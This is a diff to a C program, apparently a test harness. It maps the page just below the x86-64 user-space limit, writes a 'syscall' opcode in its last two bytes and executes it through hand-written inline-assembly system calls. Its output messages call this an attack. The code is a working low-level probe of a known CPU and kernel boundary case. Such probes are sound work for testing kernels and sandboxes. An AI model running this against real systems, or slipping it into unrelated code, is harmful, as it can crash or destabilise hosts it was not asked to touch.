@@ -135,25 +135,30 @@ static int nt(void) {
 }
 
 // `syscall` in the last two bytes below the limit returns to 2^47 - 4096.
-static void *edge(void *arg) {
-  (void)arg;
-  unsigned char *below =
-      mmap((void *)(0x7FFFFFFFF000ull - 4096), 4096, PROT_READ | PROT_WRITE,
-           MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
-  if (below == MAP_FAILED) {
-    say("attack: FAILED: cannot map the page below the last\n");
-    return NULL;
-  }
-  below[4094] = 0x0F, below[4095] = 0x05; // syscall
-  if (mprotect(below, 4096, PROT_READ | PROT_EXEC) != 0) {
-    say("attack: FAILED: mprotect RX\n");
-    return NULL;
-  }
-  say("attack: running a syscall in the last two bytes below the limit\n");
-  asm volatile("movl $39, %%eax\n"
-               "call *%0\n" ::"r"(below + 4094)
-               : "rax", "rcx", "r11", "memory");
-  return NULL;
+// The page below the limit holds the top of the main stack, so this runs
+// on a stack of its own and calls the kernel directly: mmap that page
+// (MAP_FIXED), write `0F 05` at its end, mprotect it RX, call it.
+static void edge(void *stackTop) {
+  asm volatile("movq %0, %%rsp\n"
+               "movl $9, %%eax\n" // mmap
+               "movabsq $0x7FFFFFFFE000, %%rdi\n"
+               "movl $4096, %%esi\n"
+               "movl $3, %%edx\n"     // PROT_READ | PROT_WRITE
+               "movl $0x32, %%r10d\n" // MAP_PRIVATE | MAP_ANONYMOUS | FIXED
+               "movq $-1, %%r8\n"
+               "xorl %%r9d, %%r9d\n"
+               "syscall\n"
+               "movabsq $0x7FFFFFFFEFFE, %%rbx\n"
+               "movw $0x050F, (%%rbx)\n"
+               "movl $10, %%eax\n" // mprotect
+               "movabsq $0x7FFFFFFFE000, %%rdi\n"
+               "movl $4096, %%esi\n"
+               "movl $5, %%edx\n" // PROT_READ | PROT_EXEC
+               "syscall\n"
+               "movl $39, %%eax\n"
+               "call *%%rbx\n"
+               "ud2\n" ::"r"(stackTop)
+               : "memory");
 }
 
 static int lastPage(void) {
@@ -175,11 +180,9 @@ static int lastPage(void) {
     say("attack: FAILED: the last page was mapped\n");
     return 1;
   }
-  // The page below the limit holds the top of the main stack: a thread on
-  // its own stack runs the rest while main waits.
-  pthread_t t;
-  pthread_create(&t, NULL, edge, NULL);
-  pthread_join(t, NULL);
+  static char stack[16384] __attribute__((aligned(16)));
+  say("attack: running a syscall in the last two bytes below the limit\n");
+  edge(stack + sizeof stack);
   say("attack: FAILED: returned from the edge of user space\n");
   return 1;
 }
